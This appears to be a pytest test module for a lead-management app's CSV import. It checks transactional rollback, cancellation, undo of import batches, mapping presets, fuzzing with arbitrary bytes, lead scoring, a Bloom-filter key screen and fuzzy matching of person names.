    # Each chunk's search entries are written on a helper thread while the next
    # chunk is parsed; its failure must reach the import, which rolls back whole.
    monkeypatch.setattr(importing, "CHUNK_ROWS", 3)
    calls = _fail_on_second_call(
        monkeypatch, import_bulk.BulkSearchIndex, "index_range", "index on fire"
    )
    before = dump(ctx.db)

    with pytest.raises(RuntimeError, match="index on fire"):
        import_csv(ctx, _people(tmp_path, 10), ImportOptions(policy=DuplicatePolicy.OVERWRITE))

    assert len(calls) == 2
    assert_same_dump(before, dump(ctx.db))
    assert not [t for t in threading.enumerate() if t.name.startswith("leaddesk-import")]
    # The connection is fit for the next import, which is searchable whole.
    result = import_csv(ctx, _people(tmp_path, 10), ImportOptions(policy=DuplicatePolicy.SKIP))
    assert result.created == 9
    assert len(_search(ctx, "Family7")) == 1
    _fts_consistent(ctx.db)


def test_an_update_of_a_lead_missing_from_the_search_index_fails_whole(
    ctx: OperationContext, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The update trigger expects a lead's words in the index; were a chunk's
    # new leads ever left out, the import must fail, not damage the index.
    monkeypatch.setattr(importing, "CHUNK_ROWS", 1)
    monkeypatch.setattr(import_bulk.BulkSearchIndex, "index_range", lambda *_args: None)
    first = ["Jürgen", "Schäfer", "juergen.schaefer@acme.example", "+49 30 1234567", "Acme, Inc."]
    path = _dup_file(
        tmp_path,
        [*first, "", "", "", "", ""],
        [*first, "CEO", "", "", "", ""],
    )
    before = dump(ctx.db)

    with pytest.raises(RuntimeError, match="before indexing it"):
        run_import(ctx, path, DuplicatePolicy.FILL)

    assert_same_dump(before, dump(ctx.db))
    _fts_consistent(ctx.db)


def test_an_unreadable_record_part_way_leaves_the_database_as_it_was(
    ctx: OperationContext, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, existing: int
) -> None:
    monkeypatch.setattr(importing, "CHUNK_ROWS", 500)
    # Good rows past the part of the file that is sniffed, then a quote that is
    # never closed, swallowing everything after it into one over-long cell.
    path = _people(tmp_path, 2500)
    with path.open("a", encoding="utf-8", newline="") as stream:
        stream.write('Late,Row,late@example.com,"never closed,,\r\n')
        stream.writelines(f"More{i},Rows,more{i}@example.com,,,\r\n" for i in range(6000))
    before = dump(ctx.db)
    written: list[int] = []

    with pytest.raises(UserError, match="line 2502") as refused:
        import_csv(ctx, path, progress=lambda done, total: written.append(done))

    assert len(written) >= 5  # five chunks were written before the bad record
    assert "\n" not in str(refused.value)
    assert_same_dump(before, dump(ctx.db))


def test_cancel_after_the_first_chunk_leaves_the_database_as_it_was(
    ctx: OperationContext, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, existing: int
) -> None:
    monkeypatch.setattr(importing, "CHUNK_ROWS", 3)
    asked: list[bool] = []
    progress: list[tuple[int, int]] = []

    def should_cancel() -> bool:
        asked.append(True)
        return len(asked) > 1

    before = dump(ctx.db)
    with pytest.raises(ImportCancelled):
        import_csv(
            ctx,
            _people(tmp_path, 10),
            ImportOptions(policy=DuplicatePolicy.OVERWRITE),
            progress=lambda done, total: progress.append((done, total)),
            should_cancel=should_cancel,
        )
    assert len(progress) == 1  # one chunk was processed, then the user cancelled
    assert_same_dump(before, dump(ctx.db))


def test_a_dry_run_reports_the_counts_and_writes_nothing(
    ctx: OperationContext, tmp_path: Path, existing: int
) -> None:
    path = _people(tmp_path, 10)
    with path.open("a", encoding="utf-8", newline="") as stream:
        stream.write(",,,Nobody,,\r\nGiven1,Family1,P1@EXAMPLE.com,Company 1,,\r\n")
    before = dump(ctx.db)

    dry = import_csv(ctx, path, ImportOptions(policy=DuplicatePolicy.FILL, dry_run=True))

    assert_same_dump(before, dump(ctx.db))
    assert dry.batch_id is None
    assert (dry.created, dry.updated, dry.skipped, dry.rejected) == (9, 1, 1, 1)
    assert [r.line_number for r in dry.rejected_sample] == [12]
    real = import_csv(ctx, path, ImportOptions(policy=DuplicatePolicy.FILL))
    assert (real.created, real.updated, real.skipped, real.rejected) == (9, 1, 1, 1)
    assert count(ctx, leads) == 10


def _big_file(path: Path, rows: int) -> Path:
    with path.open("w", encoding="utf-8", newline="") as stream:
        stream.write("First Name,Last Name,Email,Company,Job Title\r\n")
        stream.writelines(
            f"Given{i},Family{i},person{i}@example.com,Company {i},Manager\r\n" for i in range(rows)
        )
    return path


@pytest.mark.skipif(not hasattr(signal, "SIGKILL"), reason="needs SIGKILL")
def test_a_killed_import_leaves_the_database_as_it_was(
    ctx: OperationContext, data_dir: Path, tmp_path: Path
) -> None:
    create_lead(ctx, {"first_name": "Anna", "email": "anna@example.com", "owner": "Sam"})
    before = dump(ctx.db)
    ctx.db.close()
    big = _big_file(tmp_path / "big.csv", 200_000)
    wal = data_dir / "leaddesk.sqlite3-wal"
    start_size = wal.stat().st_size if wal.exists() else 0
    env = {k: v for k, v in os.environ.items() if not k.startswith("LEADDESK_")}
    process = subprocess.Popen(
        [sys.executable, "-m", "leaddesk", "--data-dir", str(data_dir), "import", str(big)],
        cwd=REPO_ROOT,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    try:
        deadline = time.monotonic() + 60
        # Wait until the import has written uncommitted pages to the WAL.
        while not (wal.exists() and wal.stat().st_size > start_size + 256 * 1024):
            assert process.poll() is None, process.communicate()
            assert time.monotonic() < deadline, "the import never started writing"
            time.sleep(0.02)
        assert process.poll() is None  # still importing when killed
        process.send_signal(signal.SIGKILL)
    finally:
        process.kill()
        out, _err = process.communicate()
    assert process.returncode == -signal.SIGKILL
    assert b"Imported" not in out

    reopened = open_database(Location(data_dir, f"sqlite:///{data_dir / 'leaddesk.sqlite3'}"))
    try:
        assert_same_dump(before, dump(reopened))
        with reopened.reading() as connection:
            assert connection.exec_driver_sql("PRAGMA integrity_check").scalar() == "ok"
    finally:
        reopened.close()


# --- undo --------------------------------------------------------------------------


def _fts_consistent(db: Database) -> None:
    """The search index holds exactly what `leads` holds (raises otherwise)."""
    with db.transaction() as connection:
        connection.exec_driver_sql(
            "INSERT INTO lead_search(lead_search) VALUES ('integrity-check')"
        )


def _search(ctx: OperationContext, query: str) -> list[int]:
    condition = search_condition(ctx.db.dialect, query)
    assert condition is not None
    with ctx.db.reading() as connection:
        return list(connection.execute(select(leads.c.id).where(condition)).scalars())


UNDO_FILE = [
    [
        "First Name",
        "Last Name",
        "Email",
        "Phone",
        "Company",
        "Contact owner",
        "Lifecycle Stage",
        "Job Title",
    ],
    # updates Anna (by email): stage forward, a new owner, a new title
    ["Anna", "Berg", "ANNA@example.com", "", "", "Nora Newowner", "opportunity", "Head of Sales"],
    # updates Bruno (by phone): another company
    ["Bruno", "Costa", "", "+49 (30) 555-0002", "Costa Trading", "", "", ""],
    # new leads, one with a new owner, one with the existing owner
    ["Clara", "Dahl", "clara@example.com", "", "Dahl AB", "Otto Importowner", "sql", ""],
    ["Dmitri", "Egorov", "dmitri@example.com", "", "", "sam", "", ""],
    ["Clara", "Dahl", "CLARA@example.com", "", "", "", "", "Founder"],  # fills Clara
]


@pytest.fixture
def before_import(ctx: OperationContext, clock: FixedClock, tmp_path: Path) -> Any:
    """Two existing leads, an owner; returns the dump and the file to import."""
    create_lead(
        ctx,
        {"first_name": "Anna", "last_name": "Berg", "email": "anna@example.com", "owner": "Sam"},
    )
    create_lead(
        ctx,
        {
            "first_name": "Bruno",
            "last_name": "Costa",
            "phone": "+49 30 5550002",
            "company": "Costa",
        },
    )
    clock.advance(LATER)
    return dump(ctx.db), write_csv(tmp_path / "undo.csv", UNDO_FILE)


def test_undo_restores_the_database_exactly(
    ctx: OperationContext, clock: FixedClock, before_import: Any
) -> None:
    before, path = before_import
    result = run_import(ctx, path, DuplicatePolicy.OVERWRITE)
    assert (result.created, result.updated, result.skipped) == (2, 3, 0)
    # The import really changed what undo must put back.
    anna = lead_named(ctx, "Anna", "Berg")
    assert (anna["stage"], anna["owner_name"], anna["job_title"]) == (
        "opportunity",
        "Nora Newowner",
        "Head of Sales",
    )
    assert lead_named(ctx, "Bruno", "Costa")["company"] == "Costa Trading"
    assert lead_named(ctx, "Clara", "Dahl")["job_title"] == "Founder"
    assert lead_named(ctx, "Dmitri", "Egorov")["owner_name"] == "Sam"
    assert count(ctx, owners) == 3
    assert count(ctx, import_changes) == 2
    assert _search(ctx, "Clara")
    clock.advance(LATER)

    changes = undo_import(ctx, batch_of(result))

    assert len(changes.deleted) == 2
    assert len(changes.updated) == 2
    after = dump(ctx.db)
    # Allowed to differ: the batch row (kept, now with undone_at) and the
    # search index's own pages (checked for consistency with `leads` instead).
    assert before["import_batches"] == []
    batch = after.pop("import_batches")
    assert len(batch) == 1
    with ctx.db.reading() as connection:
        row = connection.execute(select(import_batches)).one()
    assert (row.id, row.undone_at, row.created, row.updated) == (
        result.batch_id,
        TEST_NOW + 2 * LATER,
        2,
        3,
    )
    for name in FTS_SHADOW_TABLES:
        before.pop(name), after.pop(name)
    before.pop("import_batches")
    assert_same_dump(before, after)
    _fts_consistent(ctx.db)
    assert _search(ctx, "Clara") == []
    assert _search(ctx, "Newowner") == []
    assert len(_search(ctx, "Costa")) == 1
    assert _search(ctx, "Trading") == []


def test_undo_of_a_fill_import_restores_the_filled_fields(
    ctx: OperationContext, clock: FixedClock, before_import: Any
) -> None:
    before, path = before_import
    result = run_import(ctx, path, DuplicatePolicy.FILL)
    assert result.updated >= 1
    assert lead_named(ctx, "Anna", "Berg")["job_title"] == "Head of Sales"
    clock.advance(LATER)
    undo_import(ctx, batch_of(result))
    after = dump(ctx.db, skip=FTS_SHADOW_TABLES | {"import_batches"})
    expected = {k: v for k, v in before.items() if k not in FTS_SHADOW_TABLES | {"import_batches"}}
    assert_same_dump(expected, after)
    _fts_consistent(ctx.db)


def test_undo_twice_is_refused(
    ctx: OperationContext, clock: FixedClock, before_import: Any
) -> None:
    _before, path = before_import
    result = run_import(ctx, path, DuplicatePolicy.OVERWRITE)
    undo_import(ctx, batch_of(result))
    once = dump(ctx.db)
    with pytest.raises(UserError, match="already undone"):
        undo_import(ctx, batch_of(result))
    assert_same_dump(once, dump(ctx.db))


@pytest.mark.parametrize("edited", ["created", "updated"])
def test_undo_is_refused_when_a_lead_was_edited_after_the_import(
    ctx: OperationContext, clock: FixedClock, before_import: Any, edited: str
) -> None:
    _before, path = before_import
    result = run_import(ctx, path, DuplicatePolicy.OVERWRITE)
    lead = (
        lead_named(ctx, "Clara", "Dahl")
        if edited == "created"
        else lead_named(ctx, "Bruno", "Costa")
    )
    clock.advance(LATER)
    update_lead(ctx, lead["id"], {"notes": "Called, interested"})
    edited_dump = dump(ctx.db)
    clock.advance(LATER)

    with pytest.raises(UserError, match="changed after it") as refused:
        undo_import(ctx, batch_of(result))

    assert "\n" not in str(refused.value)
    assert_same_dump(edited_dump, dump(ctx.db))


def test_undo_of_an_unknown_batch_is_refused(ctx: OperationContext) -> None:
    before = dump(ctx.db)
    with pytest.raises(UserError, match="no import with number 42"):
        undo_import(ctx, 42)
    assert_same_dump(before, dump(ctx.db))


def test_undo_of_a_later_import_then_an_earlier_one(
    ctx: OperationContext, clock: FixedClock, tmp_path: Path, before_import: Any
) -> None:
    before, path = before_import
    first = run_import(ctx, path, DuplicatePolicy.OVERWRITE)
    clock.advance(LATER)
    again = write_csv(
        tmp_path / "again.csv", [["Email", "Job Title"], ["clara@example.com", "CEO"]]
    )
    second = run_import(ctx, again, DuplicatePolicy.OVERWRITE)
    assert second.updated == 1
    clock.advance(LATER)
    with pytest.raises(UserError):  # Clara, created by the first, was changed by the second
        undo_import(ctx, batch_of(first))
    undo_import(ctx, batch_of(second))
    assert lead_named(ctx, "Clara", "Dahl")["job_title"] == "Founder"
    undo_import(ctx, batch_of(first))
    skip = FTS_SHADOW_TABLES | {"import_batches"}
    assert_same_dump({k: v for k, v in before.items() if k not in skip}, dump(ctx.db, skip=skip))


# --- presets -----------------------------------------------------------------------

# "Firma" is a known header, suggested afresh; the others mean nothing to the app.
ODD_HEADERS = ["Rufname", "Zuname", "Elektropost", "Bemerkung", "Firma"]
ODD_ROWS = [ODD_HEADERS, ["Jörg", "Müßig", "Joerg@Example.de", "Ruft zurück", "Kühne AG"]]
ODD_MAPPING = (
    '{"Rufname": "first_name", "Zuname": "last_name", "Elektropost": "email", "Bemerkung": null}'
)


def test_a_file_with_unknown_headers_needs_a_mapping(ctx: OperationContext, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "odd.csv", ODD_ROWS)
    with pytest.raises(UserError, match="identifies a lead"):
        import_csv(ctx, path)


def test_presets_are_saved_listed_and_resolved(ctx: OperationContext, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "odd.csv", ODD_ROWS)
    mapping = resolve_mapping(ctx, ODD_MAPPING, ODD_HEADERS)
    assert mapping.targets == ("first_name", "last_name", "email", None, "company")

    save_preset(ctx, "  Old   CRM ", mapping)
    save_preset(ctx, "Another", suggest_mapping(["Email"]))

    assert [p.name for p in list_presets(ctx)] == ["Another", "Old CRM"]
    assert resolve_mapping(ctx, "old crm", ODD_HEADERS) == mapping
    # Headers in another order, in other case: the preset still applies by name.
    shuffled = ["ZUNAME", "Firma", "rufname", "Elektropost", "Bemerkung"]
    assert resolve_mapping(ctx, "Old CRM", shuffled).targets == (
        "last_name",
        "company",
        "first_name",
        "email",
        None,
    )
    found = preset_for_headers(ctx, ODD_HEADERS)
    assert found is not None
    assert found.name == "Old CRM"
    assert preset_for_headers(ctx, ["Rufname", "Zuname"]) is None

    result = run_import(ctx, path, mapping=resolve_mapping(ctx, "Old CRM", ODD_HEADERS))
    assert result.created == 1
    lead = lead_named(ctx, "Jörg", "Müßig")
    assert (lead["email"], lead["notes"], lead["company"]) == ("joerg@example.de", None, "Kühne AG")


def test_saving_a_preset_again_replaces_it(ctx: OperationContext) -> None:
    save_preset(ctx, "CRM", ColumnMapping(("A", "B"), ("email", None)))
    save_preset(ctx, "CRM", ColumnMapping(("A", "B"), (None, "email")))
    assert len(list_presets(ctx)) == 1
    assert resolve_mapping(ctx, "CRM", ["A", "B"]).targets == (None, "email")


@pytest.mark.parametrize(
    ("given_text", "message"),
    [
        ("No Such Preset", "no saved mapping called 'No Such Preset'"),
        ('{"Rufname": "shoe_size"}', "not a lead field"),
        ("{not json", "not valid JSON"),
    ],
)
def test_a_bad_mapping_is_a_user_error(
    ctx: OperationContext, given_text: str, message: str
) -> None:
    with pytest.raises(UserError, match=message):
        resolve_mapping(ctx, given_text, ODD_HEADERS)


def test_a_preset_without_a_name_is_refused(ctx: OperationContext) -> None:
    with pytest.raises(UserError):
        save_preset(ctx, "   ", ColumnMapping(("A",), ("email",)))


# --- arbitrary bytes ---------------------------------------------------------------

CSV_HEADERS = ["First Name", "Last Name", "Email", "Phone", "Company", "Create Date", "Rating"]
_cell = st.one_of(
    st.text(max_size=12),
    st.sampled_from(["", "=1+1", "Hot", "2026-13-45", "+49 30 1234567", "a@b.c", '"', "\r\n"]),
)


@st.composite
def csv_like_bytes(draw: st.DrawFn) -> bytes:
    delimiter = draw(st.sampled_from([",", ";", "\t", "|"]))
    headers = draw(st.lists(st.sampled_from(CSV_HEADERS), min_size=1, max_size=5))
    lines = [delimiter.join(headers)]
    for row in draw(st.lists(st.lists(_cell, max_size=6), max_size=6)):
        lines.append(delimiter.join(row))
    content = draw(st.sampled_from(["\r\n", "\n", "\r"])).join(lines)
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "cp1252"]))
    return content.encode(encoding, errors="replace")


@settings(
    max_examples=100,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(content=st.one_of(st.binary(max_size=400), csv_like_bytes()))
def test_any_bytes_import_or_are_refused_clearly(
    ctx: OperationContext, tmp_path: Path, content: bytes
) -> None:
    path = tmp_path / "any.csv"
    path.write_bytes(content)
    before = dump(ctx.db)
    leads_before = count(ctx, leads)
    refusal: UserError | None = None
    try:
        result = import_csv(ctx, path)
    except UserError as error:
        refusal = error
    if refusal is not None:
        assert str(refusal).endswith(".")
        assert "\n" not in str(refusal)
        assert_same_dump(before, dump(ctx.db))
        return
    assert min(result.created, result.updated, result.skipped, result.rejected) >= 0
    assert count(ctx, leads) == leads_before + result.created
    with ctx.db.reading() as connection:
        batch = connection.execute(
            select(import_batches).where(import_batches.c.id == result.batch_id)
        ).one()
    assert (batch.created, batch.updated, batch.skipped, batch.rejected) == (
        result.created,
        result.updated,
        result.skipped,
        result.rejected,
    )


# --- the fast scorer of new leads ----------------------------------------------------

_titles = st.one_of(
    st.none(),
    st.sampled_from(["CEO", "Head of Sales", "Student", "Intern", "mvp", "Geschäftsführer", ""]),
    st.text(max_size=15),
)
_emails = st.one_of(
    st.none(),
    st.sampled_from(
        ["a@acme.example", "bob@gmail.com", "x@yahoo.com", "not an email", "a@@b", "", "A@Acme.COM"]
    ),
    st.emails().map(str),
)
_countries = st.one_of(
    st.none(), st.sampled_from(["Germany", " de ", "DE", "Brazil", "usa", ""]), st.text(max_size=8)
)
_facts = st.builds(
    LeadFacts,
    job_title=_titles,
    company_size=st.one_of(st.none(), st.integers(-5, 5000)),
    country=_countries,
    email=_emails,
    consent=st.sampled_from(list(Consent)),
    created_at=st.one_of(
        st.none(),
        st.integers(-400 * 24, 24).map(lambda hours: TEST_NOW + dt.timedelta(hours=hours)),
    ),
)


@st.composite
def _rules(draw: st.DrawFn) -> list[ScoreRule]:
    rules = []
    for rule in DEFAULT_RULES:
        parameters = dict(rule.parameters)
        if rule.kind is RuleKind.ACTIVITY_COUNT and draw(st.booleans()):
            parameters["min_count"] = draw(st.integers(0, 3))
        if rule.kind is RuleKind.INACTIVE_DAYS:
            parameters["days"] = draw(st.integers(0, 400))
        if rule.kind is RuleKind.COMPANY_SIZE_BETWEEN:
            parameters["min"] = draw(st.integers(0, 100))
        rules.append(
            ScoreRule(
                rule.key,
                rule.label,
                rule.kind,
                draw(st.integers(-30, 40)),
                parameters,
                enabled=draw(st.booleans()),
            )
        )
    return draw(st.permutations(rules))


@settings(max_examples=200, deadline=None)
@given(
    rules=st.one_of(st.just(list(DEFAULT_RULES)), _rules()),
    facts=st.lists(_facts, min_size=1, max_size=8),
    cutoffs=st.tuples(st.integers(0, 100), st.integers(0, 100), st.integers(0, 100)),
)
def test_the_new_lead_scorer_gives_what_score_lead_gives(
    rules: list[ScoreRule], facts: list[LeadFacts], cutoffs: tuple[int, int, int]
) -> None:
    score_settings = ScoreSettings(*cutoffs)
    scorer = NewLeadScorer(rules, score_settings, TEST_NOW)  # one scorer, many leads: caches
    for lead in facts:
        expected = score_lead(lead, rules, score_settings, now=TEST_NOW).score
        assert scorer.score(lead) == expected


# --- KeyScreen and names -----------------------------------------------------------


@settings(max_examples=100, deadline=None)
@given(keys=st.lists(st.text(max_size=30), max_size=300), expected=st.integers(0, 5000))
def test_the_key_screen_never_forgets_a_key(keys: list[str], expected: int) -> None:
    screen = KeyScreen(expected)
    for key in keys:
        screen.add(key)
    assert all(key in screen for key in keys)


def test_the_key_screen_rarely_says_maybe_for_a_new_key() -> None:
    expected = 100_000
    screen = KeyScreen(expected)
    for i in range(expected):
        screen.add(f"e{i}@example.com")
    probes = 50_000
    false_positives = sum(f"e{i}@example.org" in screen for i in range(probes))
    assert false_positives / probes < 0.03
    assert 42 not in screen  # only strings are keys


@settings(max_examples=100, deadline=None)
@given(
    chunks=st.lists(
        st.lists(st.sampled_from(["a", "b", "c", "d", "e", "f"]), max_size=8), max_size=6
    )
)
def test_the_exact_key_screen_says_seen_for_exactly_the_keys_seen_before(
    chunks: list[list[str]],
) -> None:
    exact, bloom = ExactKeyScreen(), KeyScreen(1000)
    earlier: set[str] = set()
    for chunk in chunks:
        truly_seen = set()
        for key in chunk:
            if key in earlier:
                truly_seen.add(key)
            earlier.add(key)
        assert exact.check_and_add(chunk) == truly_seen
        assert truly_seen <= bloom.check_and_add(chunk)  # the Bloom filter may say more
    assert all(key in exact for key in earlier)
    assert "z" not in exact


def test_an_empty_key_screen_has_nothing() -> None:
    screen = KeyScreen(10)
    assert "anything" not in screen
    assert "" not in screen


@pytest.mark.parametrize(
    ("a", "b"),
    [
        (("Jürgen", "Schäfer"), ("Jurgen", "Schafer")),
        (("Jürgen", "Schäfer"), ("Jurgen", "Schaefer")),  # "ae" for "ä"
        (("Schäfer", "Jürgen"), ("Jürgen", "Schäfer")),  # first and last swapped
        (("MARÍA", "GÓMEZ"), ("María", "Gómez")),
        (("Mary-Jane", "Berg"), ("Mary Jane", "Berg")),
        (("Hans", "Müller"), ("Hans", "Mueller")),
        (("Straße", "Groß"), ("Strasse", "Gross")),
        (("Piotr", "Kowalsky"), ("Piotr", "Kowalski")),  # one letter of eight
        (("Hanna", "Berg"), ("Hana", "Berg")),  # one letter more in four
    ],
)
def test_the_same_person_written_differently(a: tuple[str, str], b: tuple[str, str]) -> None:
    assert same_person_name(person_name(*a), person_name(*b))
    assert same_person_name(person_name(*b), person_name(*a))


# The boundary: a letter more in a name of four letters or more, or one letter
# changed in a name of eight or more, is a spelling of the same name; a letter
# more in a three-letter name, or one changed in a short name, is another name
# ("Ana" / "Hana", "Maria" / "Mario"). So people who share a last name at one
# company stay apart (the salesforce sample has Hana and Ana Schäfer at one
# company), at the price of not merging "Jon" and "John" by name alone; their
# email or phone still does.
@pytest.mark.parametrize(
    ("a", "b"),
    [
        (("Anna", "Berg"), ("Hana", "Berg")),
        (("Ana", "Schäfer"), ("Hana", "Schäfer")),
        (("Maria", "Berg"), ("Mario", "Berg")),
        (("Lars", "Berg"), ("Lara", "Berg")),
        (("Jon", "Berg"), ("John", "Berg")),
        (("Anna", "Berg"), ("Anna", "Bergström")),
        (("Ludwig", "van der Berg"), ("Ludwig", "Berg")),
        (("Name12", "Person"), ("Name13", "Person")),
        (("Anna", ""), ("", "")),
        (("", ""), ("", "")),
    ],
)
def test_different_people_are_told_apart(a: tuple[str, str], b: tuple[str, str]) -> None:
    assert not same_person_name(person_name(*a), person_name(*b))
    assert not same_person_name(person_name(*b), person_name(*a))
